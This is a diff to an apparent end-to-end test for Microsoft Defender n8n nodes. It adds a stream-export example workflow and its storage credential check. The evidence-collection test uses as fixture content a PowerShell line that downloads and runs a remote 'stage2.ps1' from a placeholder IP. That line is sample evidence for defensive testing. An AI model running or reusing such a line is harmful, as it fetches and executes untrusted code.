@@ -4,7 +4,8 @@
  * asserted from the emulator's request log and the execution data:
  *   1. alert triage (headless `n8n execute`), 2. webhook isolate/release (answered to `curl` on
  *   loopback), 3. new-incident trigger (published, `n8n start`), 4. the AI-agent example is only
- *   imported and its node types checked (it needs a model), 5. Live Response evidence collection
+ *   imported and its node types checked (it needs a model), 5. the stream-export example is imported only (its own e2e runs it on Azurite),
+ *   6. Live Response evidence collection
  *   (headless; the file lands in n8n's binary data and the Crypto node hashes it).
  */
 import { spawn } from 'node:child_process';
@@ -99,17 +100,20 @@ describe.each(e2eLines())('real n8n line %i: the example workflows', (line) => {
 		await emu?.close();
 	});
 
-	it('has the five examples, all using the example credential id', () => {
+	it('has the six examples, all using the example credential ids', () => {
 		expect(examples.map((w) => w.id)).toEqual([
 			'defenderExampleAlertTriage',
 			'defenderExampleWebhookResponse',
 			'defenderExampleIncidentTrigger',
 			'defenderExampleAiAgent',
+			'defenderExampleStreamExport',
 			'defenderExampleCollectEvidence',
 		]);
 		for (const wf of examples) {
 			for (const n of wf.nodes as Array<{ type: string; credentials?: Record<string, { id: string }> }>) {
-				if (n.type.startsWith('n8n-nodes-microsoft-defender.')) {
+				if (n.type === 'n8n-nodes-microsoft-defender.microsoftDefenderStreamTrigger') {
+					expect(n.credentials?.microsoftDefenderStorageApi?.id).toBe('defenderDemoStorageCredential');
+				} else if (n.type.startsWith('n8n-nodes-microsoft-defender.')) {
 					expect(n.credentials?.microsoftDefenderEntraAppApi?.id).toBe('defenderDemoCredential');
 				}
 			}
@@ -149,7 +153,7 @@ describe.each(e2eLines())('real n8n line %i: the example workflows', (line) => {
 		for (const m of isolations) expect(m.status).toBe('Succeeded');
 	});
 
-	it('5 collect evidence: Live Response collects a file into n8n binary data, the next node reads it (SHA-256), the incident gets a comment', async () => {
+	it('6 collect evidence: Live Response collects a file into n8n binary data, the next node reads it (SHA-256), the incident gets a comment', async () => {
 		emu.clearLog();
 		const store = emu.store('A');
 		const content = 'Invoke-WebRequest http://203.0.113.7/stage2.ps1 | Invoke-Expression\n';
